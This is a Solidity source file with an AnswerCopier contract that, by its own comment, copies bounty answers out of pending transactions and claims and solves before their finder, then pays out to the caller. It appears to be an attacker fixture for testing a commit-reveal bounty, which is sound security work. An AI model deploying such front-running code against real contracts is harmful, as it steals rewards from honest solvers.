// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IBounty {
    function claim(uint256 id, bytes32 sealedAnswer) external;

    function solve(uint256 id, bytes32 answer) external;

    function solveMany(uint256[] calldata ids, bytes32[] calldata answers) external;
}

/// Copies answers out of pending transactions: it claims and solves before their finder does.
contract AnswerCopier {
    function run(IBounty bounty, uint256 id, bytes32 answer) external {
        claim(bounty, id, answer);
        bounty.solve(id, answer);
        payable(msg.sender).transfer(address(this).balance);
    }

    function runMany(IBounty bounty, uint256[] calldata ids, bytes32[] calldata answers) external {
        for (uint256 i = 0; i < ids.length; i++) claim(bounty, ids[i], answers[i]);
        bounty.solveMany(ids, answers);
        payable(msg.sender).transfer(address(this).balance);
    }

    function claim(IBounty bounty, uint256 id, bytes32 answer) private {
        bounty.claim(id, keccak256(abi.encodePacked(address(this), answer)));
    }

    receive() external payable {}
}
